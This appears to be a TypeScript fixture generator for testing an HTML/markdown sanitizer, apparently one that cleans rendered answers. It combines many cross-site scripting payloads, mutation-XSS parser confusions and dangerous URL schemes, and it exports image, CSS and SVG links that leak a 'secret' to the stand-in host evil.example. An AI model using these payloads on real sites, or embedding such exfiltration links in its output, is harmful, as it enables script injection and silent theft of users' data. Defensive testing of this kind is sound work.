/**
 * Hostile payloads made by crossing what attacks are made of: how code is reached (elements × handlers, addresses ×
 * protocols × spellings, parser confusions), in which encoding, and inside what. The same list at every run.
 */

const EVIL = 'https://evil.example';

const ELEMENTS = [
  'img src=x',
  'svg',
  'svg><animate attributeName=x dur=1s',
  'svg><set attributeName=x dur=1s',
  'video><source',
  'audio src=x',
  'video src=x',
  'body',
  'details open',
  'input autofocus',
  'textarea autofocus',
  'select autofocus',
  'button autofocus',
  'keygen autofocus',
  'marquee',
  'iframe src=about:blank',
  'object data=x',
  'embed src=x',
  'link rel=stylesheet href=x',
  'style',
  'script src=x',
  'math tabindex=1',
  'div contenteditable tabindex=1',
  'a href=# tabindex=1',
  'form',
  'isindex type=image src=x',
  'frameset',
  'table background=x',
  'dialog open',
  'x-custom tabindex=1',
];

const HANDLERS = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onbegin',
  'onstart',
  'onmouseover',
  'onpointerenter',
  'onanimationstart',
  'onbeforetoggle',
  'ONERROR',
];

/** How a handler is written into its tag. */
const WRITTEN: ((element: string, handler: string) => string)[] = [
  (element, handler) => `<${element} ${handler}=alert(1)>`,
  (element, handler) => `<${element.replaceAll(' ', '/')}/${handler}="alert(1)"/>`,
  (element, handler) => `<${element}\n${handler}\t=\u000calert&lpar;1&rpar;>`,
];

const PROTOCOLS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java&Tab;script&colon;alert(1)',
  '&#106;&#97;vascript&#58;alert(1)',
  '&#x6A;avascript&#x3a;alert(1)',
  '\u0001javascript:alert(1)',
  '\u00a0javascript:alert(1)',
  'javascript\u200b:alert(1)',
  'vbscript:msgbox(1)',
  'livescript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'file:///etc/passwd',
  'blob:https://evil.example/x',
  'filesystem:https://evil.example/x',
  'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)',
  'jar:javascript:alert(1)!/',
];

/** Where an address is followed. */
const ADDRESSES: ((address: string) => string)[] = [
  (address) => `<a href="${address}">x</a>`,
  (address) => `<a xlink:href="${address}">x</a>`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>x</text></a></svg>`,
  (address) => `<svg><use href="${address}"/></svg>`,
  (address) => `<math><mi xlink:href="${address}">x</mi></math>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<embed src="${address}">`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<img src="${address}">`,
  (address) => `<form action="${address}"><input type=submit></form>`,
  (address) => `<button formaction="${address}">x</button>`,
  (address) => `<base href="${address}">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<link rel=stylesheet href="${address}">`,
  (address) => `<div style="background:url(${address})">x</div>`,
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `![x](${address})`,
  (address) => `[x][r]\n\n[r]: ${address}`,
  (address) => `<${address}>`,
];

/** What makes parsers disagree about where text ends and markup begins. */
const CONFUSIONS: ((inner: string) => string)[] = [
  (inner) => `<noscript><p title="</noscript>${inner}">`,
  (inner) => `<style><p title="</style>${inner}">`,
  (inner) => `<xmp><p title="</xmp>${inner}">`,
  (inner) => `<title><p title="</title>${inner}">`,
  (inner) => `<textarea><p title="</textarea>${inner}">`,
  (inner) => `<noembed><p title="</noembed>${inner}">`,
  (inner) => `<iframe><p title="</iframe>${inner}">`,
  (inner) => `<math><mtext><table><mglyph><style><!--</style><p title="--&gt;${inner}">`,
  (inner) => `<svg><desc><style><!--</style><p title="--&gt;${inner}">`,
  (inner) => `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
  (inner) => `<!--><p title="${inner}-->${inner}`,
  (inner) => `<![CDATA[><p title="]]>${inner}">`,
  (inner) => `<template><p title="</template>${inner}">${inner}</template>`,
  (inner) => `<select><template>${inner}</template></select>`,
  (inner) => `<table><caption><form>${inner}</table>`,
  (inner) => `<svg><foreignObject><math><mi>${inner}`,
  (inner) => `<svg></p><style><g title="</style>${inner}">`,
  (inner) => `<a title='"'>${inner}<b title="'>${inner}`,
  (inner) => `<scr<x>ipt>${inner}</scr</x>ipt>`,
  (inner) => `<plaintext>${inner}`,
];

const SCRIPTS = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<svg onload=alert(1)>',
  '<iframe srcdoc="&lt;script>parent.alert(1)&lt;/script>"></iframe>',
  '<a href=javascript:alert(1)>x</a>',
  '<img src=x onerror&#61;alert(1)>',
  '<object data=javascript:alert(1)></object>',
  `<script src=${EVIL}/x.js></script>`,
];

/** What surrounds a payload in an answer. */
const PLACES: ((payload: string) => string)[] = [
  (payload) => `- a\n  - ${payload.replaceAll('\n', '\n    ')}`,
  (payload) => `> > ${payload.replaceAll('\n', '\n> > ')}`,
  (payload) => `| a |\n|---|\n| ${payload.replaceAll('\n', ' ').replaceAll('|', '\\|')} |`,
  (payload) => `**_~~${payload}~~_**`,
  (payload) => `## ${payload.replaceAll('\n', ' ')}`,
  (payload) => `<div title="'">\n\n${payload}\n\n</div>`,
  (payload) => `[${payload}](https://ok.example/ "${payload.replaceAll('"', '&quot;')}")`,
];

/** What tells a stranger that an answer is being read; the word in the address would be somebody's secret. */
export const exfiltrations: string[] = [
  `![x](${EVIL}/p.png?q=secret)`,
  `![x][i]\n\n[i]: ${EVIL}/ref.png?q=secret`,
  `[![x](${EVIL}/inner.png?q=secret)](https://ok.example)`,
  `![x](//evil.example/relative.png?q=secret)`,
  `![x](/\\evil.example/slash.png?q=secret)`,
  `![x](http://evil.example/plain.png?q=secret)`,
  `<img src=${EVIL}/tag.png?q=secret>`,
  `<img srcset="${EVIL}/set.png?q=secret 1x">`,
  `<img src=x lowsrc=${EVIL}/low.png?q=secret>`,
  `<image src=${EVIL}/image.png?q=secret>`,
  `<picture><source srcset=${EVIL}/source.webp?q=secret><img></picture>`,
  `<input type=image src=${EVIL}/input.png?q=secret>`,
  `<video poster=${EVIL}/poster.png?q=secret></video>`,
  `<video src=${EVIL}/video.mp4?q=secret autoplay></video>`,
  `<audio src=${EVIL}/audio.mp3?q=secret autoplay></audio>`,
  `<video><track default src=${EVIL}/track.vtt?q=secret></video>`,
  `<iframe src=${EVIL}/frame?q=secret></iframe>`,
  `<frameset><frame src=${EVIL}/frameset?q=secret></frameset>`,
  `<object data=${EVIL}/object?q=secret></object>`,
  `<embed src=${EVIL}/embed?q=secret>`,
  `<link rel=stylesheet href=${EVIL}/style.css?q=secret>`,
  `<link rel=prefetch href=${EVIL}/prefetch?q=secret>`,
  `<link rel=preload as=image href=${EVIL}/preload.png?q=secret>`,
  `<link rel=icon href=${EVIL}/icon.png?q=secret>`,
  `<link rel=manifest href=${EVIL}/manifest.json?q=secret>`,
  `<style>@import "${EVIL}/import.css?q=secret";</style>`,
  `<style>article{background:url(${EVIL}/rule.png?q=secret)}</style>`,
  `<style>@font-face{font-family:x;src:url(${EVIL}/font.woff2?q=secret)}*{font-family:x}</style>`,
  `<div style="background:url(${EVIL}/inline.png?q=secret)">x</div>`,
  `<div style="list-style-image:url(${EVIL}/list.png?q=secret);display:list-item">x</div>`,
  `<table background=${EVIL}/table.png?q=secret><tr><td>x</table>`,
  `<body background=${EVIL}/body.png?q=secret>`,
  `<svg><image href=${EVIL}/svg.png?q=secret width=9 height=9></svg>`,
  `<svg><use href=${EVIL}/use.svg?q=secret#x></svg>`,
  `<svg><filter id=f><feImage href=${EVIL}/filter.png?q=secret></filter><rect filter=url(#f)></svg>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}/refresh?q=secret">`,
];

/** Every attack in a place of its turn, every other one bare too, and the worst ones in every place. */
export function payloads(): string[] {
  const attacks = [
    ...cross(ELEMENTS, HANDLERS).flatMap(([element, handler]) => WRITTEN.map((write) => write(element, handler))),
    ...cross(ADDRESSES, PROTOCOLS).map(([follow, protocol]) => follow(protocol)),
    ...cross(CONFUSIONS, SCRIPTS).map(([confuse, script]) => confuse(script)),
  ];
  const inTurn = attacks.map((attack, index) => PLACES[index % PLACES.length]?.(attack) ?? attack);
  const everywhere = cross([...SCRIPTS, ...exfiltrations], PLACES).map(([attack, wrap]) => wrap(attack));
  const bare = attacks.filter((_, index) => index % 2 === 0);
  return [...new Set([...bare, ...inTurn, ...everywhere])];
}

function cross<A, B>(left: readonly A[], right: readonly B[]): [A, B][] {
  return left.flatMap((one) => right.map((other): [A, B] => [one, other]));
}
